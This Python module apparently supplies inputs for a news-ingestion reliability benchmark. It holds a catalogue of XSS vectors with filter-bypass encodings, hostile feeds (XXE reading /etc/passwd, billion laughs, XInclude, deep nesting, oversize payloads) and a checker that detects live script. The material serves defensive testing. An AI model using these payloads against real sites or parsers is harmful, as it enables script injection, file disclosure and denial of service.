"""Inputs for bench/reliability.py: varied German filler text, XSS vectors, hostile documents,
and a checker that finds live script in rendered HTML, feeds out and API JSON.

Everything here is written for this bench (no third-party corpora). Every XSS vector carries a
marker ``xssNN`` so that what is found live can be attributed to the vector that caused it.
"""

from __future__ import annotations

import json
import random
import re
from xml.sax.saxutils import escape

from lxml import etree
from lxml import html as lxml_html

_WORDS = (
    "Landtag Haushalt Opposition Regierung Schule Feuerwehr Hochwasser Pegel Oder Trainer Verein "
    "Museum Ausstellung Bronzezeit Archäologen Umgehungsstraße Bürgermeister Stadtrat Bahnhof "
    "Gleis Streik Gewerkschaft Tarif Lohn Krankenhaus Pflege Ärztin Klinik Gemeinde Kreistag "
    "Polizei Unfall Autobahn Baustelle Brücke Sanierung Wetter Sturm Regen Ernte Bauern Markt "
    "Preise Energie Strom Windpark Solar Netz Leitung Schiene Fahrplan Verspätung Flughafen "
    "Minister Ministerin Ausschuss Antrag Gesetz Verordnung Gericht Urteil Klage Berufung "
    "Theater Premiere Konzert Orchester Festival Bibliothek Schwimmbad Stadion Saison Tabelle "
    "Abstieg Aufstieg Pokal Finale Rathaus Haushaltsloch Kredit Schulden Steuer Abgabe Rente "
    "Jugend Senioren Kita Erzieher Lehrer Abitur Universität Forschung Labor Studie Ergebnis"
)
_VERBS = "verlangt kritisiert plant eröffnet beschließt prüft meldet warnt fordert lehnt"
WORDS = _WORDS.split()
VERBS = _VERBS.split()


def filler(rng: random.Random, sentences: int) -> str:
    """Sentences of random words: distinct per item, so near-duplicate detection keeps them."""
    out = []
    for _ in range(sentences):
        words = rng.sample(WORDS, 9)
        out.append(f"Die {words[0]} {rng.choice(VERBS)} {' '.join(words[1:])}.")
    return " ".join(out)


# --- XSS vectors ---------------------------------------------------------------------------
# (kind, payload); "{m}" is replaced by the vector's marker.
LINKS = [  # the <link> of a teaser-only feed item ("weiterlesen")
    "javascript:alert('{m}')",
    "JavaScript:alert('{m}')",
    "JAVASCRIPT:alert('{m}')",
    " javascript:alert('{m}')",
    "java&#9;script:alert('{m}')",
    "java&#10;script:alert('{m}')",
    "&#x6A;avascript:alert('{m}')",
    "javascript&#58;alert('{m}')",
    "jav&amp;#x09;ascript:alert('{m}')",
    "javascript://%0aalert('{m}')",
    "vbscript:msgbox('{m}')",
    "VBScript:msgbox('{m}')",
    "data:text/html,&lt;script&gt;alert('{m}')&lt;/script&gt;",
    "data:text/html;charset={m};base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
]
BODIES = [  # body HTML of a feed item (content:encoded)
    "<script>alert('{m}')</script>",
    "<svg><script>alert('{m}')</script></svg>",
    "<svg onload=\"alert('{m}')\"></svg>",
    "<img src=\"javascript:alert('{m}')\">",
    "<img src=x onerror=\"alert('{m}')\">",
    "<img srcset=\"javascript:alert('{m}') 1x\">",
    "<img src=\"data:image/svg+xml,&lt;svg onload=alert('{m}')&gt;\">",
    "<a href=\"javascript:alert('{m}')\">Mehr</a>",
    "<a href=\"&amp;#106;avascript:alert('{m}')\">Mehr</a>",
    "<a href=\"java&#x09;script:alert('{m}')\">Mehr</a>",
    "<a href=\" &#14; javascript:alert('{m}')\">Mehr</a>",
    "<iframe src=\"javascript:alert('{m}')\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert('{m}')&lt;/script&gt;\"></iframe>",
    "<object data=\"javascript:alert('{m}')\"></object>",
    "<embed src=\"javascript:alert('{m}')\">",
    "<form action=\"javascript:alert('{m}')\"><button>Los</button></form>",
    "<button formaction=\"javascript:alert('{m}')\">Los</button>",
    "<math><a xlink:href=\"javascript:alert('{m}')\">Mehr</a></math>",
    "<details open ontoggle=\"alert('{m}')\"><summary>x</summary></details>",
    "<div style=\"background:url(javascript:alert('{m}'))\">Text</div>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'{m}\')">',
    "<base href=\"javascript:alert('{m}')//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\"></p></noscript>",
    "<table><td background=\"javascript:alert('{m}')\">x</td></table>",
    "<input autofocus onfocus=\"alert('{m}')\">",
    "<scr<script>ipt>alert('{m}')</script>",
    "<<script>script>alert('{m}')</script>",
    '<a href="data:text/html;charset={m};base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<style>@import 'javascript:alert(\"{m}\")';</style>",
]
TEASERS = [  # plain text that shows code: must stay text everywhere, feeds out included
    "Der Code &amp;lt;script&amp;gt;alert('{m}')&amp;lt;/script&amp;gt; stand im Forum.",
    "Bildzeile: &amp;lt;img src=x onerror=alert('{m}')&amp;gt; war der Trick.",
    "Der Befehl &lt;script&gt;alert('{m}')&lt;/script&gt; wurde gemeldet.",
]
JSON_FIELDS = [  # pushed through the API as a wire item
    ("url", "javascript:alert('{m}')"),
    ("url", "\x01javascript:alert('{m}')"),
    ("url", "\tjava\nscript:alert('{m}')"),
    ("headline", "<script>alert('{m}')</script> Landtag"),
    ("teaser", "Text <img src=x onerror=alert('{m}')> im Vorspann"),
    ("article_html", "<p>Absatz</p><script>alert('{m}')</script>"),
    ("article_html", "<p><a href=\"javascript:alert('{m}')\">Link</a></p>"),
    ("image", "javascript:alert('{m}')"),
]


def xss_vectors() -> list[dict]:
    vectors = []
    for kind, payloads in (("link", LINKS), ("body", BODIES), ("teaser", TEASERS)):
        for payload in payloads:
            vectors.append({"kind": kind, "payload": payload})
    for field, payload in JSON_FIELDS:
        vectors.append({"kind": f"api-{field}", "payload": payload})
    for n, v in enumerate(vectors, 1):
        v["marker"] = f"xss{n:02d}"
        v["payload"] = v["payload"].replace("{m}", v["marker"])
    return vectors


def xss_feed(vectors: list[dict], rng: random.Random) -> bytes:
    """One RSS feed carrying the link, body and teaser vectors, one item each."""
    items = []
    for v in vectors:
        if v["kind"] not in ("link", "body", "teaser"):
            continue
        m, p = v["marker"], v["payload"]
        title = f"Meldung {m} {rng.choice(WORDS)}"
        text = escape(filler(rng, 4))
        link = p if v["kind"] == "link" else f"https://news.example.test/{m}.html"
        parts = [f"<title>{title}</title>", f"<link>{link}</link>", f"<guid>urn:bench:{m}</guid>"]
        parts.append("<pubDate>Wed, 12 Feb 2025 17:27:49 +0100</pubDate>")
        if v["kind"] == "body":
            body = f"<p>{text}</p>{p}<p>{escape(filler(rng, 3))}</p>"
            parts.append(f"<description>{text}</description>")
            parts.append(f"<content:encoded><![CDATA[{body}]]></content:encoded>")
        elif v["kind"] == "teaser":
            parts.append(f"<description>{p} {text}</description>")
        else:
            parts.append(f"<description>{text}</description>")
        items.append("<item>" + "".join(parts) + "</item>")
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>'
        "<title>Bench</title><link>https://news.example.test/</link>"
        "<description>Bench</description>" + "".join(items) + "</channel></rss>"
    ).encode()


def xss_wire_items(vectors: list[dict], rng: random.Random) -> list[dict]:
    items = []
    for v in vectors:
        if not v["kind"].startswith("api-"):
            continue
        field, m = v["kind"][4:], v["marker"]
        item = {
            "urn": f"urn:newsml:bench.test:{m}",
            "version": 1,
            "version_created": "2025-02-12T18:27:49+01:00",
            "pubstatus": "usable",
            "language": "de",
            "headline": f"Meldung {m} {rng.choice(WORDS)}",
            "teaser": filler(rng, 1),
            "article_html": f"<p>{filler(rng, 4)}</p>",
            "rubric_names": ["Politik"],
        }
        if field == "image":
            item["associations"] = [
                {"type": "image", "renditions": [{"url": v["payload"], "width": 800}]}
            ]
        else:
            item[field] = v["payload"] + (" " + filler(rng, 2) if field == "article_html" else "")
        items.append(item)
    return items


# --- finding live script -----------------------------------------------------------------
URL_ATTRS = {
    "href", "src", "action", "formaction", "data", "background", "poster", "srcset",
    "codebase", "cite", "lowsrc", "dynsrc", "longdesc", "ping", "xlink:href", "content",
}  # fmt: skip
BAD_SCHEMES = ("javascript:", "vbscript:", "data:text/html", "data:image/svg", "livescript:")
ACTIVE_TAGS = {"iframe", "object", "embed", "base", "frame", "frameset", "applet"}
_CONTROL = re.compile(r"[\x00-\x20]")
MARKER = re.compile(r"xss\d\d")


def bad_url(value: str) -> bool:
    """A URL a browser would run: the scheme check after browsers' own whitespace removal."""
    squeezed = _CONTROL.sub("", value).lower()
    if "url=" in squeezed:  # meta refresh content
        squeezed = squeezed.split("url=", 1)[1]
    return squeezed.startswith(BAD_SCHEMES)


def live_in_html(text: str, where: str) -> list[tuple[str, str]]:
    """(where, snippet) for every piece of live script in an HTML document or fragment."""
    found: list[tuple[str, str]] = []
    if not text or not text.strip():
        return found
    try:
        root = lxml_html.document_fromstring(text)
    except (etree.ParserError, ValueError):
        return found
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        tag = el.tag.lower().rsplit("}", 1)[-1]
        snippet = etree.tostring(el, encoding="unicode", with_tail=False)[:200]
        if tag == "script" and (el.get("type") or "").lower() != "application/ld+json":
            found.append((where, snippet))
            continue
        if tag in ACTIVE_TAGS and MARKER.search(snippet):
            found.append((where, snippet))
            continue
        if tag == "style" and "javascript:" in _CONTROL.sub("", el.text or "").lower():
            found.append((where, snippet))
        for name, value in el.attrib.items():
            name = name.lower()
            if name.startswith("on") or name == "srcdoc":
                found.append((where, snippet))
                break
            if (name in URL_ATTRS or name.endswith(":href")) and bad_url(value):
                found.append((where, snippet))
                break
            if name == "style" and re.search(r"javascript:|expression\(", value, re.I):
                found.append((where, snippet))
                break
    return found


_HTML_ELEMENTS = {"description", "encoded", "summary", "content", "subtitle", "rights"}


def live_in_feed(data: bytes, where: str) -> list[tuple[str, str]]:
    """Live script in a feed as a reader would render it: HTML-typed elements are parsed as
    HTML after XML decoding, links are scheme-checked."""
    found: list[tuple[str, str]] = []
    try:
        root = etree.fromstring(data, etree.XMLParser(resolve_entities=False, recover=True))
    except etree.XMLSyntaxError:
        return [(where, "feed is not well-formed XML")]
    if root is None:
        return [(where, "feed is empty")]
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        local = etree.QName(el).localname
        kind = (el.get("type") or "html").lower()
        if local in _HTML_ELEMENTS and kind in ("html", "text/html"):
            found += live_in_html(el.text or "", f"{where} <{local}>")
        elif local in _HTML_ELEMENTS and kind == "xhtml":
            inner = "".join(etree.tostring(c, encoding="unicode") for c in el)
            found += live_in_html(inner, f"{where} <{local} xhtml>")
        elif local == "title" and el.get("type") == "html":
            found += live_in_html(el.text or "", f"{where} <title html>")
        for attr in ("href", "url", "src"):
            if el.get(attr) and bad_url(el.get(attr)):
                found.append((where, f"<{local} {attr}={el.get(attr)[:80]!r}>"))
        if local in ("link", "guid", "id", "comments") and bad_url(el.text or ""):
            found.append((where, f"<{local}>{(el.text or '')[:80]}"))
    return found


def live_in_json(data: bytes, where: str) -> list[tuple[str, str]]:
    """URL-like fields of API answers that a client would put into href/src."""
    found: list[tuple[str, str]] = []
    try:
        doc = json.loads(data)
    except ValueError:
        return found

    def walk(node: object, key: str = "") -> None:
        if isinstance(node, dict):
            for k, v in node.items():
                walk(v, k)
        elif isinstance(node, list):
            for v in node:
                walk(v, key)
        elif isinstance(node, str) and re.search(r"url|href|link|src", key) and bad_url(node):
            found.append((where, f"{key}={node[:80]!r}"))

    walk(doc)
    return found


# --- hostile documents -------------------------------------------------------------------
def _rss(body: str, prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<rss version="2.0"><channel>'
        f"<title>Feindlich</title><link>https://news.example.test/</link>{body}</channel></rss>"
    ).encode()


def _item(title: str, text: str, guid: str) -> str:
    return (
        f"<item><title>{title}</title><link>https://news.example.test/{guid}</link>"
        f"<guid>urn:bench:{guid}</guid><description>{text}</description></item>"
    )


def _wire(headline: str, html: str, urn: str, **extra: object) -> dict:
    item = {
        "urn": f"urn:newsml:bench.test:{urn}",
        "version": 1,
        "version_created": "2025-02-12T18:27:49+01:00",
        "headline": headline,
        "article_html": html,
    }
    item.update(extra)
    return item


def hostile_inputs(rng: random.Random) -> list[dict]:
    """(name, bytes, content type, leak) where ``leak`` is text that must never be stored."""
    text = filler(rng, 3)
    lol = '<!ENTITY lol "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    quadratic = "q" * 50_000
    deep_xml = "<div>" * 200_000 + "x" + "</div>" * 200_000
    deep_json = "[" * 200_000 + "]" * 200_000
    latin1 = _rss(_item("Grüße aus Köln", f"Straße {text}", "latin1")).decode().encode("latin-1")
    huge = json.dumps(_wire("Übergroß", "<p>" + text + "</p>", "huge")).encode()
    return [
        {"name": "XXE external entity (file)", "ct": "application/rss+xml", "leak": "root:",
         "data": _rss(_item("XXE &xxe;", text, "xxe"),
                      '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')},
        {"name": "XXE parameter entity (external DTD)", "ct": "application/rss+xml",
         "leak": "root:", "data": _rss(_item("XXE2", text, "xxe2"),
         '<!DOCTYPE rss [<!ENTITY % ext SYSTEM "http://127.0.0.1:9/evil.dtd"> %ext;]>')},
        {"name": "billion laughs", "ct": "application/rss+xml", "leak": "lollollol" * 20,
         "data": _rss(_item("Lachen &lol9;", text, "lol"), f"<!DOCTYPE rss [{lol}]>")},
        {"name": "quadratic blowup", "ct": "application/rss+xml", "leak": quadratic * 3,
         "data": _rss(_item("Q", "&q;" * 20_000, "quad"),
                      f'<!DOCTYPE rss [<!ENTITY q "{quadratic}">]>')},
        {"name": "XInclude", "ct": "application/atom+xml", "leak": "root:",
         "data": (b'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom" '
                  b'xmlns:xi="http://www.w3.org/2001/XInclude"><title>X</title>'
                  b'<id>urn:bench:xi</id><updated>2025-02-12T17:00:00Z</updated><entry>'
                  b'<title>XInclude</title><id>urn:bench:xi:1</id>'
                  b'<updated>2025-02-12T17:00:00Z</updated><content type="xhtml">'
                  b'<div xmlns="http://www.w3.org/1999/xhtml"><xi:include '
                  b'href="file:///etc/passwd" parse="text"/></div></content></entry></feed>'
                  )},
        {"name": "truncated XML", "ct": "application/rss+xml", "leak": "",
         "data": _rss(_item("Abgeschnitten", text, "trunc"))[:-60]},
        {"name": "truncated JSON", "ct": "application/json", "leak": "",
         "data": json.dumps(_wire("Abgeschnitten", f"<p>{text}</p>", "tj")).encode()[:-25]},
        {"name": "wrong encoding (latin-1 declared UTF-8)", "ct": "application/rss+xml",
         "leak": "", "data": latin1},
        {"name": "UTF-16 declared, UTF-8 bytes", "ct": "application/rss+xml", "leak": "",
         "data": _rss(_item("Kodierung", text, "u16")).replace(b"UTF-8", b"UTF-16")},
        {"name": "deep HTML nesting (200k divs) in a wire item", "ct": "application/json",
         "leak": "", "data": json.dumps(_wire("Tief", deep_xml, "deephtml")).encode()},
        {"name": "deep XML nesting (200k elements)", "ct": "application/rss+xml", "leak": "",
         "data": _rss(f"<item><title>T</title>{deep_xml}</item>")},
        {"name": "deep JSON nesting (200k arrays)", "ct": "application/json", "leak": "",
         "data": deep_json.encode()},
        {"name": "NUL bytes in JSON text", "ct": "application/json", "leak": "\x00",
         "data": json.dumps(_wire("Null\x00Byte", f"<p>{text}\x00</p>", "nul")).encode()},
        {"name": "NUL bytes in XML", "ct": "application/rss+xml", "leak": "\x00",
         "data": _rss(_item("Null\x00Byte", text, "nulxml"))},
        {"name": "over-size (60 MB padded JSON)", "ct": "application/json", "leak": "",
         "data": huge[:-1] + b" " * 60_000_000 + b"}"},
        {"name": "binary garbage", "ct": "application/octet-stream", "leak": "",
         "data": bytes(rng.randrange(256) for _ in range(4096))},
        {"name": "empty body", "ct": "application/json", "leak": "", "data": b""},
    ]  # fmt: skip
